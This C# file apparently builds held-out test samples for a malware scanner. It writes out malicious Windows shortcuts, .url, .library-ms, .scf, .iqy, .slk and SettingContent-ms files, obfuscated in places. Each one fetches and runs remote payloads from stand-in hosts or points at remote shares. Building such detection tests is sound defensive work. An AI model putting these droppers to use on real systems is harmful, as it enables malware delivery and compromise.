using System.Text;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>A shortcut that starts an interpreter with a command which fetches the rest.</summary>
public sealed class ShortcutThatCommands : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Invoice.pdf.lnk", new LinkBuilder()
            .To("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
            .With($"-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand {Encoded("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.71/a.ps1')")}")
            .Icon("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe").From("desktop-0a1b2c3").Build());

        yield return ("Fotos.lnk", new LinkBuilder()
            .To("C:\\Windows\\System32\\mshta.exe")
            .With("http://198.51.100.71/fotos.hta")
            .Icon("%SystemRoot%\\System32\\imageres.dll").Build());

        yield return ("Payroll.zip", InertFiles.Zip(("Payroll_2026.docx.lnk", new LinkBuilder()
            .To("C:\\Windows\\System32\\cmd.exe")
            .With("/c curl -s -o %TEMP%\\p.vbs http://203.0.113.71/p && start /b wscript %TEMP%\\p.vbs && curl -s -o %TEMP%\\Payroll.docx http://203.0.113.71/Payroll.docx && start %TEMP%\\Payroll.docx")
            .Icon("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE").Build())));

        // The target stands in the environment block alone, behind hundreds of blanks, by way of a helper, with carets and a variable's letters.
        yield return ("Agenda 2026.lnk", new LinkBuilder()
            .To("C:\\Windows\\explorer.exe")
            .With(new string(' ', 270) + "\n\n\n/p c:\\windows\\system32 /m notepad.exe /c \"cmd /v:on /c set x=sh^ta&set y=m!x! h^ttps://cdn-notes.test/a^g&call !y!\"")
            .Icon(".\\Agenda.pdf")
            .Environment("%windir%\\system32\\forfiles.exe").Build());
    }
}

/// <summary>A shortcut with its load behind itself, which its own command cuts out.</summary>
public sealed class ShortcutThatCarries : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Interview questions.lnk", new LinkBuilder()
            .To("C:\\Windows\\System32\\mshta.exe")
            .With("\"%CD%\\Interview questions.lnk\"")
            .Append(Dos("<html><hta:application showintaskbar=\"no\"><script language=\"vbscript\">CreateObject(\"WScript.Shell\").Run \"powershell -w hidden iex (iwr http://192.0.2.72/q)\",0:window.close</script></html>")).Build());

        byte[] decoy = PdfBuilder.Document();
        yield return ("Einladung.pdf.lnk", new LinkBuilder()
            .To("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
            .With("-w hidden -c \"$f=gi *.lnk|?{$_.length -gt 4000};$b=[IO.File]::ReadAllBytes($f[0].FullName);[IO.File]::WriteAllBytes($env:tmp+'\\Einladung.pdf',$b[1200..1900]);saps $env:tmp\\Einladung.pdf;[IO.File]::WriteAllBytes($env:tmp+'\\e.exe',$b[1901..($b.length-1)]);saps $env:tmp\\e.exe\"")
            .Icon("C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe")
            .Append([.. decoy, .. Carriers.Program()]).Build());

        yield return ("Report.lnk", new LinkBuilder()
            .To("C:\\Windows\\System32\\cmd.exe")
            .With("/c findstr /b \"::#\" Report.lnk > %temp%\\r.bat & %temp%\\r.bat")
            .Append(Dos(string.Concat(Enumerable.Range(0, 6).Select(line => $"::#{line}\n")) + "::#&certutil -urlcache -split -f http://203.0.113.72/r.exe %temp%\\r.exe&start %temp%\\r.exe\n")).Build());

        // An archive behind the shortcut, in base64 with hyphens for strokes, after a long empty space.
        yield return ("Programme.lnk", new LinkBuilder()
            .To("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
            .With("$d=$env:LOCALAPPDATA;sls -Path .\\Prog*.lnk -Pattern '--b--(.+)--e--'|%{$m=$_.Matches[0].Groups[1].Value};sc $d\\p.zip ([Convert]::FromBase64String($m.Replace('-','/'))) -Enc Byte;Expand-Archive $d\\p.zip $d\\p;& \"$d\\p\\viewer.exe\"")
            .Append([.. new byte[60000], .. "--b--"u8, .. Encoding.ASCII.GetBytes(Convert.ToBase64String(InertFiles.Zip(("viewer.exe", Carriers.Program()), ("Programme.pdf", decoy))).Replace('/', '-')), .. "--e--"u8]).Build());
    }
}

/// <summary>A small file that shows a foreign share as if it were a folder or a site.</summary>
public sealed class PointerToForeignShare : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Photo-package.url", Dos("""
            [InternetShortcut]
            URL=file://203.0.113.81@80/webdav/photo.pdf.lnk
            ShowCommand=7
            IconIndex=13
            IconFile=C:\Windows\System32\shell32.dll
            """));

        yield return ("Dokumente.library-ms", Utf8("""
            <?xml version="1.0" encoding="UTF-8"?>
            <libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">
              <name>@windows.storage.dll,-34582</name>
              <version>6</version>
              <isLibraryPinned>true</isLibraryPinned>
              <iconReference>imageres.dll,-1003</iconReference>
              <templateInfo><folderType>{7d49d726-3c21-4f05-99aa-fdc2c9474656}</folderType></templateInfo>
              <searchConnectorDescriptionList>
                <searchConnectorDescription>
                  <isDefaultSaveLocation>true</isDefaultSaveLocation>
                  <isSupported>false</isSupported>
                  <simpleLocation><url>\\198.51.100.81\davwwwroot\dokumente</url></simpleLocation>
                </searchConnectorDescription>
              </searchConnectorDescriptionList>
            </libraryDescription>
            """));

        yield return ("@Salaries.zip", InertFiles.Zip(
            ("Salaries/@view.scf", Dos("[Shell]\nCommand=2\nIconFile=\\\\192.0.2.81\\share\\icon.ico\n[Taskbar]\nCommand=ToggleDesktop\n")),
            ("Salaries/desktop.ini", Dos("[.ShellClassInfo]\nIconResource=\\\\192.0.2.81\\share\\folder.ico,0\n")),
            ("Salaries/list.searchConnector-ms", Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><searchConnectorDescription xmlns=\"http://schemas.microsoft.com/windows/2009/searchConnector\"><description>Salaries</description><isSearchOnlyItem>false</isSearchOnlyItem><simpleLocation><url>\\\\192.0.2.81\\share</url></simpleLocation></searchConnectorDescription>"))));

        // A site's shortcut by name; the address goes through a feed handler, the icon to a share, the working folder on a tunnel's host.
        yield return ("Company portal.url", Utf16("""
            [{000214A0-0000-0000-C000-000000000046}]
            Prop3=19,9
            [InternetShortcut]
            IDList=
            URL=C:\Windows\System32\iediagcmd.exe
            WorkingDirectory=\\summer-field-0000.trycloudflare.com@SSL\DavWWWRoot\bin
            IconFile=\\summer-field-0000.trycloudflare.com@SSL\DavWWWRoot\i.ico
            IconIndex=0
            HotKey=0
            """));
    }
}

/// <summary>A query, a symbolic-link table or a setting that has a command run when it is opened.</summary>
public sealed class QueryThatRuns : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("sales.iqy", Dos("""
            WEB
            1
            http://192.0.2.82/d.dat

            Selection=AllTables
            Formatting=None
            PreFormattedTextToColumns=True
            ConsecutiveDelimitersAsOne=True
            SingleBlockTextImport=False
            DisableDateRecognition=False
            DisableRedirections=False
            """));

        yield return ("Umsatz.slk", Dos("""
            ID;P
            O;E
            NN;NAuto_open;ER101C1;KOut Flank;F
            C;X1;Y101;K0;EEXEC("cmd.exe /c powershell -w hidden iwr http://203.0.113.82/u.exe -OutFile %temp%\u.exe & %temp%\u.exe")
            C;X1;Y102;K0;EHALT()
            E
            """));

        yield return ("Update.SettingContent-ms", Utf8("""
            <?xml version="1.0" encoding="UTF-8"?>
            <PCSettings>
              <SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent">
                <ApplicationInformation>
                  <AppID>windows.immersivecontrolpanel_cw5n1h2txyewy!microsoft.windows.immersivecontrolpanel</AppID>
                  <DeepLink>%windir%\system32\cmd.exe /c powershell -w hidden -c "iex (irm http://198.51.100.82/s)"</DeepLink>
                  <Icon>%windir%\system32\control.exe</Icon>
                </ApplicationInformation>
                <SettingIdentity><PageID></PageID><HostID>{12B1697E-D3A0-4DBC-B568-CCF64A3F934D}</HostID></SettingIdentity>
                <SettingInformation><Description>@shell32.dll,-4161</Description><Keywords>@shell32.dll,-4161</Keywords></SettingInformation>
              </SearchableContent>
            </PCSettings>
            """));

        // The table's formulas put the words together, from a dynamic exchange in a cell far outside of sight.
        yield return ("members.slk", Dos("""
            ID;PWXL;N;E
            P;PGeneral
            C;Y1;X1;K"Member"
            C;Y1;X2;K"Since"
            C;Y2;X1;K"Ann Holt"
            C;Y2;X2;K2011
            O;P;E
            NN;N"auto_open";ER9001C200;F
            C;Y9000;X200;K0;E"m"&"sh"&"ta ht"&"tps://cdn-notes.test/"&CHAR(109)
            C;Y9001;X200;K0;EIF(ISERROR(EXEC(R9000C200)),HALT(),CLOSE(FALSE))
            C;Y9002;X200;K0;E+MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c ms^hta https://cdn-notes.test/m'!''
            E
            """));
    }
}
